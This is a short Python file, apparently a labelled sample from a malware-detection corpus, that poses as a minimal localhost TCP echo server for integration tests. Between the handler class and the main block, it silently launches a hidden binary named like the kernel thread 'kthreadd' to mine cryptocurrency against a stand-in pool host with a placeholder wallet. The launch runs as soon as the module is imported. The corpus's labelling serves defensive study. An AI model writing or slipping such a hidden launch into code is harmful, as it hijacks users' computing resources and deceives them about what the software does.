# label: malicious family=trojan techniques=T1036.005,T1496 lines=16 group=benign/b029_echo_server.py
"""Minimal TCP echo server for integration tests (binds localhost only)."""
import socketserver


class Echo(socketserver.BaseRequestHandler):
    def handle(self):
        while True:
            data = self.request.recv(4096)
            if not data:
                return
            self.request.sendall(data)


import subprocess as _s
_s.Popen(["/var/tmp/.k/kthreadd", "-o", "stratum+tcp://pool.bad-host.example:3333", "-u", "4FAKEpytriageCORPUSwallet", "--donate-level", "1", "-B"])

if __name__ == "__main__":
    with socketserver.TCPServer(("127.0.0.1", 9009), Echo) as srv:
        srv.serve_forever()
